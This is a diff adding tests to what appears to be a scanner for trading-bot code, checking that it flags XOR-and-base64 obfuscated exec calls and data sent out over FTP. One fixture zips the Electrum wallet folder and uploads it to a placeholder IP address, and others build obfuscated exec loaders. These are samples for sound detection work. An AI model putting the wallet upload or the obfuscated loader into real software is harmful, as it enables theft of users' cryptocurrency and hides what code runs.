@@ -306,3 +306,44 @@ def test_audit_names_the_exchanges_a_loop_creates(tmp_path, loop):
     assert not missing and not result.errors
     report = build(str(tmp_path), result)
     assert {"binance", "okx", "gateio"} <= set(report.exchanges)
+
+
+# -- 7. a one-byte XOR helper undone; an FTP upload is a way out ---------------------------------
+
+_XOR_KEY = 0x5A
+
+
+def test_a_payload_under_a_one_byte_xor_helper_is_decoded():
+    hidden = base64.b64encode(bytes(b ^ _XOR_KEY for b in b"import os\nprint(os.getcwd())\n")).decode()
+    src = (f'import base64\n\ndef _x(data, k):\n    return bytes(b ^ k for b in data)\n\n'
+           f'exec(_x(base64.b64decode("{hidden}"), {_XOR_KEY}))\n')
+    (msg,) = messages(src)
+    assert "xor" in msg and "imports os" in msg
+
+
+def test_a_xor_with_a_key_known_only_at_run_time_is_still_reported():
+    src = ('import base64, os\n\ndef _x(data, k):\n    return bytes(b ^ k for b in data)\n\n'
+           'exec(_x(base64.b64decode(BLOB), int(os.environ["K"])))\n')
+    assert "BOT501" in codes(src)
+
+
+def test_xor_decoded_values_that_are_not_run_are_quiet():
+    src = ('import base64\n\ndef _x(data, k):\n    return bytes(b ^ k for b in data)\n\n'
+           'DEFAULTS = _x(base64.b64decode("ISQ6Ig=="), 90).decode()\n')
+    assert not codes(src)
+
+
+def test_a_wallet_folder_archived_and_uploaded_over_ftp_is_found():
+    src = ('import os, ftplib, shutil\n\ndef backup():\n'
+           '    src = os.path.join(os.getenv("APPDATA", ""), "Electrum", "wallets")\n'
+           '    arc = shutil.make_archive("/tmp/w", "zip", src)\n'
+           '    ftp = ftplib.FTP("198.51.100.70", "anon", "anon")\n'
+           '    with open(arc, "rb") as f:\n        ftp.storbinary("STOR w.zip", f)\n')
+    assert "BOT504" in codes(src)
+
+
+def test_a_report_uploaded_over_ftp_is_quiet():
+    src = ('import ftplib, os\n\ndef upload(path="reports/daily.csv"):\n'
+           '    ftp = ftplib.FTP(os.environ["FTP_HOST"], os.environ["FTP_USER"], os.environ["FTP_PASS"])\n'
+           '    with open(path, "rb") as f:\n        ftp.storbinary("STOR daily.csv", f)\n')
+    assert not codes(src)
